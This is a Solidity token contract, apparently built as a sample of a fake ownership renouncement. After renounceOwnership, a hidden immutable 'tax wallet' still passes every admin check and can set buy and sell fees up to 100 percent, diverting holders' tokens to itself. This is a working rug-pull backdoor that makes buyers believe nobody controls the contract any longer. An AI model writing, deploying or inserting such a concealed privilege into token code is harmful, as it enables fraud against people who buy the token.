// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// Ownership gets renounced (owner() == 0), but the "tax wallet" set in the
/// constructor passes every admin check too, so fees can still be changed.
contract RenouncedFeeToken {
    string public name;
    string public symbol;
    uint8 public decimals = 18;
    uint256 public totalSupply;

    address private _owner;
    address private immutable _taxWallet;
    address public marketPair;
    uint8 public buyTaxPercent = 1;
    uint8 public sellTaxPercent = 1;

    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowances;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    modifier onlyOwner() {
        require(_isAuthorized(msg.sender), "Ownable: caller is not the owner");
        _;
    }

    constructor(string memory name_, string memory symbol_, uint256 supply_, address taxWallet_) {
        name = name_;
        symbol = symbol_;
        _owner = msg.sender;
        _taxWallet = taxWallet_;
        totalSupply = supply_;
        _balances[msg.sender] = supply_;
        emit OwnershipTransferred(address(0), msg.sender);
        emit Transfer(address(0), msg.sender, supply_);
    }

    function _isAuthorized(address caller) private view returns (bool) {
        return caller == _owner || caller == _taxWallet;
    }

    function owner() external view returns (address) {
        return _owner;
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }

    function setMarketPair(address pair) external onlyOwner {
        marketPair = pair;
    }

    function updateFees(uint8 buyPercent, uint8 sellPercent) external onlyOwner {
        require(buyPercent <= 100 && sellPercent <= 100, "fee");
        buyTaxPercent = buyPercent;
        sellTaxPercent = sellPercent;
    }

    function balanceOf(address account) external view returns (uint256) {
        return _balances[account];
    }

    function allowance(address holder, address spender) external view returns (uint256) {
        return _allowances[holder][spender];
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        _allowances[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        _allowances[from][msg.sender] -= amount;
        _transfer(from, to, amount);
        return true;
    }

    function _transfer(address from, address to, uint256 amount) private {
        _balances[from] -= amount;
        uint256 taxAmount;
        if (from != _taxWallet && to != _taxWallet && from != _owner && to != _owner) {
            if (to == marketPair) {
                taxAmount = (amount * sellTaxPercent) / 100;
            } else if (from == marketPair) {
                taxAmount = (amount * buyTaxPercent) / 100;
            }
        }
        if (taxAmount > 0) {
            _balances[_taxWallet] += taxAmount;
            emit Transfer(from, _taxWallet, taxAmount);
        }
        _balances[to] += amount - taxAmount;
        emit Transfer(from, to, amount - taxAmount);
    }
}
